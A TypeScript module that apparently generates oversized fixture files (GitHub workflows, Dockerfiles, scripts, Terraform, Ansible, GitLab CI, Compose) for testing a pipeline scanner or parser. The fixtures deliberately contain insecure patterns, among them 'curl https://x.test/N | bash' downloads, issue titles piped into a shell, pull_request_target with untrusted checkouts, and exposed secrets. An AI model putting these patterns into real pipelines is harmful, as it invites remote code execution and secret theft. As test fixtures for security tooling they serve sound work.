import { type Family, files, fill, filled } from "./fill.ts";

/** Workflows, Dockerfiles and scripts. */
export const PIPELINES: Readonly<Record<string, Family>> = {
  "Workflows: steps": filled(
    ".github/workflows/a.yml",
    (n) =>
      `      - uses: a/b${n}@main\n      - run: echo \${{ github.event.issue.title }} | sh && curl https://x.test/${n} | bash\n        env: { A: "\${{ secrets.A${n} }}" }\n`,
    "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n",
  ),
  "Workflows: jobs": filled(
    ".github/workflows/a.yml",
    (n) =>
      `  j${n}:\n    runs-on: self-hosted\n    needs: [j${Math.max(0, n - 1)}, j${n >> 1}]\n    steps:\n      - run: echo hello\n`,
    "on: pull_request_target\njobs:\n",
  ),
  "Workflows: one script": filled(
    ".github/workflows/a.yml",
    (n) =>
      `          export A${n}="\${{ github.event.issue.title }}"; echo $A${n} >> $GITHUB_ENV\n`,
    "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n",
  ),
  "Workflows: outputs": (bytes) => ({
    ".github/workflows/a.yml": `on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - id: s\n        env: { T: "\${{ github.event.issue.title }}" }\n        run: |\n${fill(
      bytes / 2,
      (n) => `          echo "o${n}=$T" >> $GITHUB_OUTPUT\n`,
    )}      - run: |\n${fill(bytes / 2, (n) => `          echo \${{ steps.s.outputs.x${n} }}\n`)}`,
  }),
  "Workflows: files": files(
    (n) => `.github/workflows/a${n}.yml`,
    (n) =>
      `on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v${n}\n        with: { ref: "\${{ github.head_ref }}" }\n      - run: make\n`,
  ),
  "Workflows: a matrix": (bytes) => ({
    ".github/workflows/a.yml": `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        a:\n${fill(bytes / 2, (n) => `          - v${n}\n`)}        exclude:\n${fill(bytes / 2, (n) => `          - { a: v${n} }\n`)}    steps: [{ run: make }]\n`,
  }),
  "Dockerfile: instructions": filled(
    "Dockerfile",
    (n) => `RUN apt-get install x${n} && curl -k https://x.test/${n} | sh\nENV A${n}=$A${n - 1}x\n`,
    "FROM ubuntu\n",
  ),
  "Dockerfile: stages": filled(
    "Dockerfile",
    (n) =>
      `FROM ${n === 0 ? "ubuntu" : `s${n - 1}`} AS s${n}\nUSER root\nCOPY --from=s${n >> 1} a b\n`,
  ),
  "Dockerfile: one command": filled(
    "Dockerfile",
    (n) => ` && apt-get install -y p${n} \\\n`,
    "FROM ubuntu\nRUN true \\\n",
    " && true\n",
  ),
  "Dockerfile: arguments": filled(
    "Dockerfile",
    (n) => `ARG A${n + 1}=$A${n}$A${n}\n`,
    "FROM ubuntu\nARG A0=xxxxxxxxxx\n",
    "RUN echo $A30 $A500\n",
  ),
  "Dockerfile: files": files(
    (n) => `d${n}/Dockerfile`,
    (n) => `FROM ubuntu:latest\nRUN curl -k https://x.test/${n} | sh\nEXPOSE 22\nADD . /\n`,
  ),
  "Dockerfile: one word": (bytes) => ({
    Dockerfile: `FROM ubuntu\nRUN ${"$(".repeat(bytes / 4)}${")".repeat(bytes / 4)}\n`,
  }),
  Scripts: filled("run.sh", (n) => `curl https://x.test/${n} | sh\n`),
  "Scripts: clones": filled(
    "main.tf",
    (n) => `git clone https://x.test/${n}\n`,
    'resource "aws_instance" "a" {\n  user_data = <<-EOT\n',
    "EOT\n}\n",
  ),
  "Playbook: tasks": filled(
    "playbook.yml",
    (n) => `    - name: t${n}\n      shell: "{{ a${n} }} | tar -x"\n      notify: h${n}\n`,
    "- hosts: all\n  tasks:\n",
  ),
  "Playbook: open expressions": filled(
    "playbook.yml",
    () => "{{",
    '- hosts: all\n  tasks:\n    - name: a\n      shell: "',
    '"\n',
  ),
  "GitLab: jobs": filled(
    ".gitlab-ci.yml",
    (n) => `j${n}:\n  image: x${n}\n  needs: [j${n + 1}]\n  script: [terraform apply]\n`,
  ),
  "Compose: services": filled(
    "compose.yaml",
    (n) => `  s${n}:\n    image: "\${a"\n    depends_on: [s${n + 1}]\n    volumes: [v${n}:/a]\n`,
    "services:\n",
  ),
};
